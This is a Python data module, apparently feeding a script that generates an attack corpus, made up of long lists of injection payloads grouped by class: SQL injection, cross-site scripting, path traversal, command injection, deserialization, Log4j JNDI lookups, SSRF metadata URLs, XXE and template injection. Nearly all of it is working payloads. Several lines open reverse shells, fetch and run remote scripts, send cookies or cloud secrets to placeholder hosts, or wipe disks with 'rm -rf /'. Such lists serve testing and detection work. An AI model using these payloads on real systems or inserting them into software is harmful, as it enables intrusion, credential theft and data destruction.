"""Attack strings by class, for make_attacks.py: classes and techniques as publicly known, written for this corpus.
`{n}` is a small number, `{d}` a domain, `{f}` a file name; placeholders keep lines from repeating."""

SQLI = r"""1' OR '1'='1
' or 1=1--
' or 1=1#
admin' --
admin'/*
admin' or '1'='1'#
') or ('a'='a
" or ""="
" or 1=1 -- -
1 or 1=1
{n} AND {n}={n}
1) or (1=1
' or 'x' like 'x
' or username is not null or '
' oR 1=1 lImIt 1 -- -
1' UNION SELECT NULL--
1' UNION SELECT NULL,NULL,NULL--
-{n} union all select 1,2,3,4,concat(user(),0x3a,database())--
1 UNION SELECT username, password FROM users
' union select 1,@@version,3#
0 union select null,table_name from information_schema.tables
1' and 1=0 union select group_concat(column_name),2 from information_schema.columns where table_name='users'#
{n}' order by {n}-- -
1 group by 1,2,3 having 1=1--
'; DROP TABLE users; --
1; delete from accounts
1;insert into users(name,pass) values('a','b')
'; update users set password='x' where id={n};--
'; exec master..xp_cmdshell 'ping {d}'--
1; EXEC sp_configure 'show advanced options',1
1' AND SLEEP({n})-- -
1 and sleep({n})
1' and if(ascii(substr(database(),{n},1))>64,sleep(3),0)#
(select(0)from(select(sleep({n})))v)
1;select pg_sleep({n})
'||pg_sleep({n})--
1' waitfor delay '0:0:{n}'--
1 and benchmark(5000000,md5({n}))
1' and extractvalue(1,concat(0x7e,(select @@version)))-- -
1 and updatexml(1,concat(0x7e,(select user())),1)
' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)--
1 and 1=convert(int,(select top 1 table_name from information_schema.tables))
' and 1=cast((select version()) as int)--
1' and ascii(lower(substring((select top 1 name from sysobjects where xtype='U'),{n},1)))>10{n}--
1 AND (SELECT COUNT(*) FROM users)>{n}
1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a
' and exists(select * from users where name='admin')--
1 and length(database())={n}
{n}' rlike (select (case when (1=1) then 1 else 0x28 end))-- -
1 UNION SELECT load_file('/etc/passwd'),2
' union select '<?php system($_GET[0]); ?>' into outfile '/var/www/{f}.php'#
1 or utl_inaddr.get_host_address((select banner from v$version where rownum=1)) is null
' || utl_http.request('http://{d}/'||(select user from dual))||'
'||(select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://{d}/">%x;]>'),'/l') from dual)||'
1 union select sql,2 from sqlite_master
1 and randomblob(500000000)
1;copy x from program 'id'
1'; select lo_import('/etc/passwd',{n})--
'; declare @q varchar(99);set @q='\\{d}\x';exec master.dbo.xp_dirtree @q--
1 union select char(97,100,109,105,110),2
' or name=0x61646d696e--
1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
1'='1
'='
'-'
' or ''-'
1' || '1'='1
1' && '1'='1
1 xor 1=1
1' having 1=1--
' group by users.id having 1=1--
1 and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2)) x from (select 1 union select 2)a group by x limit 1)
1' or not 1=2--
' or true--
x' and email is null; --
x' and userid is null; --
'; shutdown with nowait; --
1 and (select case when (1=1) then 1 else 1/0 end)=1
admin' and substr(password,{n},1)='a'--
1 in (select {n} from users)
1 union distinct select 1,2
1'union(select(1),2,3)from(users)#
1 union(select 1,group_concat(table_name),3 from information_schema.tables)
select * from users where id={n}
1 AND 1=1 AND '%'='
{n} or id between 1 and 9--
1/**/and/**/1=1
;select 1
' UNION SELECT sum(columnname) from tablename --
1' and (select * from (select(sleep({n})))a)-- a
-1 or 2+{n}-{n}-1=0+0+0+1
{n}'"
if(now()=sysdate(),sleep({n}),0)
0'XOR(if(now()=sysdate(),sleep({n}),0))XOR'Z
(CASE WHEN ({n}={n}) THEN SLEEP(5) ELSE {n} END)
1 or row_count()={n}
{n};waitfor delay '0:0:9'
'; begin declare @x varchar(8000) set @x=':' select @x=@x+name from users end--
1 or 1 in (select @@version)--
1 union select * from (select 1)a join (select 2)b
' or json_extract('{"a":1}','$.a')=1--
1 and json_keys((select convert((select concat(user())) using utf8)))
1 and gtid_subset(concat(0x7e,version()),1)
1' and polygon((select * from(select * from(select @@version)f)x))-- -
1 or exp(~(select * from (select user())a))
'+(select 'a' where 1=1 and 1=1)+'
1,(select sleep({n}))
username' collate nocase or '1""".split("\n")

XSS = r"""<script>alert({n})</script>
<script src=//{d}/{f}.js></script>
<ScRiPt>prompt({n})</sCrIpT>
<script>document.location='http://{d}/?'+document.cookie</script>
"><script>alert(document.domain)</script>
'><script>confirm(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
<img src=x onerror=alert({n})>
<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">
"><img src=x onerror=prompt(1)>
<img/src=`x`onerror=alert(1)>
<svg onload=alert({n})>
<svg/onload=alert(1)//
<svg><script>alert&#40;1)</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>
<body onload=alert({n})>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert({n})>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert({n})>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror="alert(1)">
<video src=1 onerror=alert(1)>
<audio src onloadstart=alert(1)>
<iframe src="javascript:alert({n})">
<iframe srcdoc="<script>alert(1)</script>">
<iframe onload=alert(1)>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<a href="javascript:alert({n})">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x
<form action="javascript:alert(1)"><input type=submit>
<button formaction="javascript:alert(1)">x
<math><maction actiontype="statusline#http://{d}" xlink:href="javascript:alert(1)">x
<link rel=stylesheet href=//{d}/x.css>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="//{d}/">
<style>@import'//{d}/x.css';</style>
<div style="width:expression(alert({n}))">
<div onmouseover="alert({n})">x
<p onclick=alert(1)>x
<x onclick=alert(1)>x
<xss id=x tabindex=1 onfocus=alert(1)></xss>
" onmouseover="alert({n})
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
" onmouseover=alert(1) style="position:fixed
javascript:alert({n})
javascript:alert(document.cookie)
java	script:alert(1)
JaVaScRiPt:confirm`1`
vbscript:msgbox({n})
data:text/html,<script>alert({n})</script>
data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+
';alert({n})//
";alert(1)//
'-alert({n})-'
"-alert(1)-"
\';alert(1)//
</script><script>alert({n})</script>
${alert(1)}
{{constructor.constructor('alert({n})')()}}
{{$on.constructor('alert(1)')()}}
{{$eval.constructor('alert(1)')()}}
{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}
<div ng-app>{{$new.constructor('alert(1)')()}}
window['alert']({n})
top['al'+'ert'](1)
self[/*x*/'alert'](1)
eval(atob('YWxlcnQoMSk='))
setTimeout('alert({n})')
[].constructor.constructor('alert(1)')()
Function('alert(1)')()
String.fromCharCode(88,83,83)
document.write('<img src=//{d}>')
document.body.innerHTML='<h1>x'
window.location='//{d}/'
fetch('//{d}/?c='+document.cookie)
new Image().src='//{d}/?'+document.cookie
import('//{d}/{f}.js')
<script>fetch(`//{d}`)</script>
<script>import('//{d}/x.js')</script>
<script/src=data:,alert(1)>
<script x>alert(1)</script x>
<<script>alert(1);//<</script>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<isindex type=image src=1 onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<template><script>alert(1)</script></template>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x">
<svg><set onbegin=alert(1) attributename=x>
<?xml-stylesheet href="javascript:alert(1)"?>
\u003cscript\u003ealert({n})\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]
<a onpointerrawupdate=alert(1)>x
<div onanimationstart=alert(1) style="animation:x 1s">
<input type="hidden" oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">
<button popovertarget=x>y</button><input popover id=x onbeforetoggle=alert(1)>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img srcset=x onerror=import('//{d}')>
-confirm(document.domain)-
alert?.(1)
onerror=alert;throw 1
<script>onerror=alert;throw {n}</script>
<plaintext onmousemove=alert(1)>
<!--#exec cmd="id" -->
<a href=" &#14; javascript:alert(1);">x""".split("\n")

TRAVERSAL = r"""../../../../etc/passwd
../../../../../../../../etc/shadow
../../../../etc/hosts
..\..\..\..\windows\win.ini
..\..\..\boot.ini
/etc/passwd
/etc/shadow
/etc/group
/etc/nginx/nginx.conf
/etc/apache2/apache2.conf
/etc/mysql/my.cnf
/etc/ssh/sshd_config
/etc/crontab
//etc//passwd
/./etc/./passwd
/etc/passwd%00
../../../etc/passwd%00.jpg
....//....//....//etc/passwd
....\/....\/....\/etc/passwd
..././..././..././etc/passwd
..;/..;/manager/html
/proc/self/environ
/proc/self/cmdline
/proc/self/fd/{n}
/proc/version
/proc/{n}/maps
/var/log/apache2/access.log
/var/log/nginx/error.log
/var/log/auth.log
/var/lib/php/sessions/sess_{n}abc
/root/.ssh/id_rsa
/root/.bash_history
~/.aws/credentials
C:\Windows\win.ini
C:/Windows/System32/drivers/etc/hosts
c:\boot.ini
c:\inetpub\wwwroot\web.config
c:/xampp/apache/conf/httpd.conf
\\{d}\share\{f}.txt
file:///etc/passwd
file:///c:/windows/win.ini
file://localhost/etc/passwd
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=config.php
php://input
phar:///tmp/{f}.phar
zip:///tmp/{f}.zip#x.php
expect://id
data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==
data:text/plain,<?php phpinfo();?>
WEB-INF/web.xml
../WEB-INF/web.xml
/static/../../../../META-INF/MANIFEST.MF
../../../../../../var/www/html/wp-config.php
../config/database.yml
../../.env
../.git/config
..%c0%af..%c0%af..%c0%afetc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
..%255c..%255c..%255cwindows/win.ini
/var/run/secrets/kubernetes.io/serviceaccount/token
/etc/kubernetes/admin.conf
../../../../../../proc/self/environ
/usr/local/apache2/conf/httpd.conf
/opt/tomcat/conf/tomcat-users.xml
../../../../opt/app/config.yml
{f}/../../../../../etc/issue
images/../../../{f}.php
....//....//{f}.conf
/%5c..%5c..%5c..%5cwinnt/win.ini
.../.../.../etc/passwd
netdoc:///etc/passwd
/etc/hostname
/etc/resolv.conf
../../../../boot/grub/grub.cfg""".split("\n")

RFI = r"""http://{d}/{f}.txt?
http://{d}/shell.txt
https://{d}/c99.txt??
ftp://{d}/{f}.php
http://203.0.113.{n}/{f}.txt
http://{d}/r57.php?cmd=id
http://{d}/cmd.gif?
smb://{d}/x.php
https://{d}/{f}.inc?x.php
//{d}/shell.txt?
http://{d}/evil.php%00
hxxp://{d}/{f}.txt?
include('http://{d}/x.txt')
require_once "https://{d}/{f}.php"
ftp://anonymous:a@{d}/{f}.php?""".split("\n")

COMMAND = r"""; id
;id;
| id
|| whoami
&& whoami
& whoami &
127.0.0.1; cat /etc/passwd
127.0.0.1 && ls -la
127.0.0.1|uname -a
127.0.0.1 & net user
x; ping -c {n} {d}
x | nslookup {d}
`id`
`sleep {n}`
$(id)
$(sleep {n})
$(curl http://{d}/`whoami`)
a$(whoami).{d}
; sleep {n}
;sleep {n};
| sleep {n}
|| ping -n {n} 127.0.0.1
; curl http://{d}/{f}.sh | sh
;wget http://{d}/{f} -O /tmp/{f}; chmod +x /tmp/{f}; /tmp/{f}
; wget -q -O- http://203.0.113.{n}/x|bash
; bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1
;nc -e /bin/sh 203.0.113.{n} 4444
| nc 203.0.113.{n} 4444 -e /bin/bash
;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.{n} 99 >/tmp/f
;python3 -c 'import socket,subprocess,os;s=socket.socket()'
;perl -e 'system("id")'
;php -r 'system("id");'
;ruby -rsocket -e 'exit'
;cat${IFS}/etc/passwd
;cat$IFS$9/etc/passwd
;{cat,/etc/passwd}
;cat</etc/passwd
;c'a't /etc/passwd
;c""at /etc/passwd
;w\ho\am\i
;/???/c?t /e??/p?ss??
;/bin/cat /etc/hosts
/usr/bin/id
/bin/bash -c id
;echo aWQ= | base64 -d | sh
;bash<<<$(base64 -d<<<aWQ=)
;$(printf '\x69\x64')
;env
;printenv
|ifconfig
|cat /proc/version
;tail -n {n} /var/log/syslog
;ls /
|ls
; ls -al /tmp
||ls||
%0aid
x
() { :; }; echo vulnerable
() { :;}; /bin/bash -c "curl http://{d}/"
() { _; } >_[$($())] { id; }
cmd.exe /c dir
& dir c:\
| type c:\windows\win.ini
&& ipconfig /all
| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://{d}/a')"
;powershell Get-Process
| certutil -urlcache -split -f http://{d}/{f}.exe {f}.exe
& bitsadmin /transfer x http://{d}/a c:\a
& mshta http://{d}/{f}.hta
| regsvr32 /s /u /i:http://{d}/{f}.sct scrobj.dll
& net user {f} P@ss /add
& reg query HKLM\SAM
& timeout /t {n}
w^h^o^a^m^i
%COMSPEC% /c dir
--upload-pack=touch /tmp/{f}
-oProxyCommand=id
--use-askpass=/tmp/{f}
;touch /tmp/{f}
;echo {f} > /var/www/html/{f}.php
;rm -rf /
;:(){ :|:& };:
|sudo -l
;crontab -l
;uname${IFS}-a
;${PATH:0:1}bin${PATH:0:1}id
;$0<<<id
; grep root /etc/passwd
|sort /etc/passwd
;find / -name {f}
&nslookup {d}&
;dig {d}
';id;'
"; ls; "
$(cat</etc/passwd)
;a=w;b=hoami;$a$b
{{}}; ping -i 30 127.0.0.1 ; x
|| curl {d}
| python -c "print(1)"
;kill -9 {n}
; tftp -g -r {f} 203.0.113.{n}""".split("\n")
COMMAND[COMMAND.index("x")] = "x\nid"

PHP = r"""<?php system($_GET['c']); ?>
<?php phpinfo();?>
<?= `id` ?>
<?=system('id')?>
system('id')
system('cat /etc/passwd');
passthru('id')
shell_exec('ls')
exec("whoami")
popen('id','r')
proc_open('id',[],$p)
eval(base64_decode('cGhwaW5mbygpOw=='))
assert($_REQUEST['x'])
call_user_func('system','id')
call_user_func_array('assert',array($_POST[1]))
array_map('system',array('id'))
create_function('','system("id");')
preg_replace('/.*/e','system("id")','x')
${@phpinfo()}
{${phpinfo()}}
${system(id)}
';phpinfo();//
'.phpinfo().'
'.system('id').'
$_GET['x']($_GET['y'])
$_POST[0]
$GLOBALS['x']
file_put_contents('{f}.php','<?php ')
file_get_contents('/etc/passwd')
readfile('/etc/hosts')
show_source('index.php')
scandir('/')
include($_GET['p'])
require('http://{d}/a')
gzinflate(base64_decode('x'))
str_rot13('flfgrz')('id')
('sys'.'tem')('id')
("system")("id")
O:8:"stdClass":1:{s:1:"a";i:{n};}
O:12:"Monolog\Test":1:{s:1:"x";N;}
a:2:{i:0;O:4:"Evil":1:{s:3:"cmd";s:2:"id";}i:1;i:0;}
O:+8:"stdClass":0:{}
C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}
-d allow_url_include=1 -d auto_prepend_file=php://input
auto_prepend_file=/etc/passwd
phpinfo()
print(md5({n}));phpversion();
index/\think\app/invokefunction
\think\Container/invokefunction
@eval($_POST['{f}']);
ini_set('display_errors','1');system('id');
die(md5({n}));system('id');
var_dump(scandir('.'));
highlight_file('config.php')
move_uploaded_file($_FILES['x'],'a.php')
unserialize($_COOKIE['x'])
assert("phpinfo()")
usort($_GET,'assert')
echo `id`;?>
pcntl_exec('/bin/sh')""".split("\n")

JAVA = r"""java.lang.Runtime.getRuntime().exec('id')
T(java.lang.Runtime).getRuntime().exec('id')
new java.lang.ProcessBuilder('id').start()
#{T(java.lang.Runtime).getRuntime().exec('id')}
${T(java.lang.System).getenv()}
${''.getClass().forName('java.lang.Runtime')}
#{''.getClass().forName('javax.script.ScriptEngineManager')}
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}
%{#context['xwork.MethodAccessor.denyMethodExecution']=false}
%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec("id"))}
redirect:${#req=1}
redirect:%{3*{n}}
method:#_memberAccess
class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
class.classLoader.URLs[0]=jar:http://{d}/x.jar!/
rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==
rO0ABXQABHRlc3Q=
aced0005737200116a6176612e7574696c2e48617368
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{d}/a","autoCommit":true}
{"@type":"java.lang.AutoCloseable","@type":"x"}
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{d}/"]]]]
org.apache.commons.collections.functors.InvokerTransformer
com.mchange.v2.c3p0.WrapperConnectionPoolDataSource
"".getClass().forName("java.lang.Runtime").getMethod("exec")
new javax.script.ScriptEngineManager().getEngineByName("js").eval("1")
"id".execute().text
groovy.lang.GroovyShell
${pageContext.request.getSession().setAttribute("a",1)}
#{request.getClass().getClassLoader()}
Java.type('java.lang.Runtime').getRuntime().exec('id')
bsh.Interpreter
${applicationScope}
org.springframework.context.support.ClassPathXmlApplicationContext
*{T(java.lang.Runtime).getRuntime().exec('id')}
javax.el.ELProcessor().eval('1')""".split("\n")

LOOKUP = r"""${jndi:ldap://{d}/a}
${jndi:ldap://{d}:1389/Basic/Command/Base64/aWQ=}
${jndi:rmi://{d}/x}
${jndi:dns://{d}/{f}}
${jndi:ldaps://{d}/x}
${JNDI:LDAP://{d}/a}
${${lower:j}ndi:ldap://{d}/a}
${${lower:j}${lower:n}${lower:d}i:${lower:ldap}://{d}/a}
${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{d}/z}
${j${::-n}di:ldap://{d}/a}
${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//{d}/a}
${${upper:j}ndi:${upper:l}dap://{d}/a}
${jndi:${lower:l}${lower:d}a${lower:p}://{d}/a}
${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.{d}/a}
${jndi:ldap://{d}/${sys:java.version}}
${env:DB_PASSWORD}
${sys:os.name}
${java:version}
${main:0}
${${date:'j'}${date:'n'}di:ldap://{d}/a}
${${base64:am5kaTpsZGFwOi8v}}
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
${url:UTF-8:http://{d}/}
${dns:address:{d}}
${jn${lower:d}i:l${lower:d}ap://${hostName}.{d}/a}
$%7Bjndi:ldap://{d}/a%7D
${jndi:iiop://{d}/x}
${ctx:loginId}
${lower:${jndi:ldap://{d}/a}}
${jndi:http://{d}/x}""".split("\n")

NODE = r"""require('child_process').exec('id')
require("fs").readFileSync('/etc/passwd')
process.mainModule.require('child_process').execSync('id')
global.process.mainModule.constructor._load('child_process').exec('id')
{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
_$$ND_FUNC$$_function(){}()
this.constructor.constructor('return process')().exit()
res.end(require('fs').readdirSync('.').toString())
process.env
process.exit()
while(1)
__proto__[isAdmin]=1
{"__proto__":{"isAdmin":true}}
constructor[prototype][x]=1
{"constructor":{"prototype":{"x":1}}}
__proto__.outputFunctionName
__import__('os').system('id')
__import__('subprocess').check_output('id')
os.system('id')
os.popen("id").read()
subprocess.Popen(['id'],shell=True)
eval(compile('import os','x','exec'))
().__class__.__bases__[0].__subclasses__()
''.__class__.__mro__[{n}].__subclasses__()
exec("import os;os.system('id')")
cos
!!python/object/apply:os.system ["id"]
!!python/object/new:subprocess.Popen [["id"]]
gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
--- !ruby/object:Gem::Requirement
BAhbCGMVR2VtOjpTcGVjRmV0Y2hlcmMTR2VtOjpJbnN0YWxsZXI=
Kernel.exec("id")
IO.popen('id').read
%x(id)
open("|id").read
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}
AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=
System.Diagnostics.Process.Start("cmd.exe","/c id")
{"__js_function":"function(){return 1}"}
import('child_process').then(x=>x.exec('id'))
(function(){return process.env})()
spawnSync('id')""".split("\n")
NODE[NODE.index("cos")] = "cos\nsystem\n(S'id'\ntR."

SSRF = r"""http://169.254.169.254/latest/meta-data/
http://169.254.169.254/latest/meta-data/iam/security-credentials/{f}
http://metadata.google.internal/computeMetadata/v1/instance/
http://100.100.100.200/latest/meta-data/
http://169.254.170.2/v2/credentials/
http://[fd00:ec2::254]/latest/
http://[::ffff:169.254.169.254]/
http://169.254.169.254.nip.io/latest/
http://2852039166/latest/meta-data/
http://0xA9FEA9FE/
http://0251.0376.0251.0376/
http://127.0.0.1/
http://127.0.0.1:22/
http://127.1:8080/{f}
http://localhost/server-status
http://localhost:6379/
http://[::1]/
http://[::]:80/
http://[0:0:0:0:0:ffff:127.0.0.1]/
http://0/
http://0.0.0.0:8000/
http://2130706433/
http://0x7f000001/
http://0x7f.0x0.0x0.0x1/
http://0177.0.0.1/
http://017700000001/
http://127.0.0.1.nip.io/
http://localtest.me/admin
http://10.0.0.{n}/
http://192.168.0.{n}/admin
http://172.16.{n}.1:9200/_cat/indices
http://{d}@127.0.0.1/
http://{d}#@127.0.0.1/
http://127.0.0.1#{d}
gopher://127.0.0.1:6379/_SET%20x%201
gopher://{d}:25/_HELO
dict://127.0.0.1:11211/stats
ldap://127.0.0.1:389/%0astats
tftp://{d}:69/{f}
sftp://{d}:22/
jar:http://{d}/x.jar!/
netdoc:///etc/hosts
file:///etc/hosts
http://kubernetes.default.svc/api
https://kubernetes.default/
http://consul:8500/v1/agent/self
http://vault:8200/v1/sys
http://host.docker.internal:2375/containers/json
http://①②⑦.⓪.⓪.①/
http://127。0。0。1/
http://{f}.oastify.com/
http://{f}.burpcollaborator.net
http://{f}.oast.fun/
http://x.interact.sh/{n}
http://instance-data/latest/
http://metadata.azure.com/metadata/instance
http://169.254.169.254/metadata/v1.json
http://192.0.0.192/latest/
http://spoofed.burpcollaborator.net/""".split("\n")

XXE = r"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://{d}/{f}">]><foo>&xxe;</foo>
<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://{d}/x.dtd">%p;]><r/>
<!DOCTYPE r SYSTEM "http://{d}/{f}.dtd"><r/>
<!DOCTYPE r PUBLIC "-//A//B" "http://127.0.0.1/x.dtd"><r/>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>
<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>
<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><r>&x;</r>
<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>
<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:variable name="a" select="rt:getRuntime()"/></xsl:stylesheet>
<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file:///c:/boot.ini">]><r>&x;</r>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>
<!DOCTYPE r [<!ENTITY % a "<!ENTITY b SYSTEM 'http://{d}/'>">%a;]><r>&b;</r>
<!doctype r [<!entity x system "jar:http://{d}/x.zip!/a">]><r>&x;</r>""".split("\n")

TEMPLATE = r"""{{7*7}}
{{7*'7'}}
${7*7}
#{7*7}
<%= 7*7 %>
${{7*7}}
{{config}}
{{config.items()}}
{{self.__init__.__globals__.__builtins__}}
{{request.application.__globals__}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{lipsum.__globals__['os'].popen('id').read()}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
{{url_for.__globals__}}
{{get_flashed_messages.__globals__}}
{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% import os %}{{os.system('id')}}
{% debug %}
{%raw%}x{%endraw%}{{7*7}}
{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}
{{['id']|filter('system')}}
{{['id',0]|sort('system')|join}}
{{app.request.server.all|join(',')}}
{{dump(app)}}
{php}echo `id`;{/php}
{$smarty.version}
{system('id')}
{if phpinfo()}{/if}
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")}
#set($e="e")$e.getClass().forName("java.lang.Runtime")
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
<%= system('id') %>
<%= File.open('/etc/passwd').read %>
<%= `id` %>
<% import os %><% x=os.popen('id').read() %>${x}
${self.module.cache.util.os.system("id")}
#{root.process.mainModule.require('child_process').spawnSync('id')}
#{function(){return 1}()}
{{#with "s" as |string|}}{{#with string.sub.apply}}x{{/with}}{{/with}}
{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
{{constructor.constructor('return this.process')()}}
@(1+2)
@{var x=1;}
{{printf "%s" "x"}}
{{.System "id"}}
*{7*7}
[[${7*7}]]
~{::x}
{{=7*7}}
${print(7*7)}
{7*7}
settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').exec('id');s""".split("\n")

LDAP = r"""*)(uid=*))(|(uid=*
admin)(&)
*)(objectClass=*
admin)(|(password=*))
*)(&
x)(|(cn=*))
(&(uid=admin)(userPassword=*))
*))%00
admin))(|(objectClass=*
*)(mail=*))%00
(|(objectclass=*)(cn=a))
x*)(sn=*
' or '1'='1' or 'a'='a
' or name()='username' or 'x'='y
'] | //user/*[contains(*,'
x' or count(/*)=1 or 'a'='b
//user[position()=1]/child::node()[position()=2]
' or string-length(name(/*[1]))={n} or '
' and substring(//user[1]/password,1,1)='a' and '1'='1
a' or contains(name,'adm') or 'x'='y
child::node()
' or doc('http://{d}/') or '""".split("\n")

NOSQL = r"""user[$ne]=1
password[$regex]=.*
id[$nin][]=1
a[$where]=1
{"username":{"$ne":null},"password":{"$ne":null}}
{"$where":"this.a==1"}
{"a":{"$regex":"^a"}}
{"a":{"$not":{"$eq":1}}}
' || '1'=='1
' || this.password.match(/^a/) || 'a'=='b
';return true;var x='
'; while(1);var x='
db.users.find({})
1;db.dropDatabase()
db.getCollectionNames()
{"$expr":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}
true, $where: '1 == 1'
$where: 'this.x.length > 1'
'; sleep(5000);'
1'; return this.a == 'b' && 'x'=='x
{"$exists":true}
CONFIG SET dir /var/www/html
FLUSHALL
EVAL "return redis.call('keys','*')" 0
{"script_fields":{"a":{"script":"x"}}}
new Date(); do{c=new Date();}while(c-d<10000);""".split("\n")

SPLITTING = ["x\r\nSet-Cookie: session={n}", "en\r\nLocation: http://{d}/", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>",
             "a\r\n\r\n<script>alert({n})</script>", "x\nSet-Cookie:a=b", "/x\r\nX-XSS-Protection: 0", "x\r\nContent-Type: text/html", "a@{d}\r\nBcc: b@{d}",
             "a@{d}\nCc: c@{d}", "me\r\nTo: x@{d}\r\nSubject: y", "x%0d%0aSet-Cookie: a={n}", "x%0aLocation: //{d}", "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {d}\r\n\r\n",
             "x\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\nPOST /{f} HTTP/1.1\r\nX: y", "\u560d\u560aSet-Cookie: a=b", "x\r\nHTTP/1.1 302 Found\r\n", "x\r\nAccess-Control-Allow-Origin: *",
             "x\r\nRefresh: 0;url=http://{d}", "a\r\nX-Forwarded-Host: {d}", "GET /{f} HTTP/1.1"]

PATHS = """/.git/config;/.git/HEAD;/.svn/entries;/.hg/store;/.env;/.env.production;/api/.env;/.env.bak;/.aws/credentials;/.ssh/id_rsa;/id_rsa;/.htpasswd
/.htaccess;/.DS_Store;/.npmrc;/.dockercfg;/.docker/config.json;/.kube/config;/wp-config.php;/wp-config.php.bak;/wp-config.php~;/config.php.bak;/config.php.old
/web.config;/appsettings.json;/application.properties;/application.yml;/config/database.yml;/secrets.json;/credentials.json;/server.key;/ssl/private.key
/private.pem;/backup.sql;/dump.sql;/db.sql.gz;/backup.zip;/www.zip;/site.tar.gz;/database.sqlite;/phpinfo.php;/info.php;/server-status;/nginx_status;/trace.axd
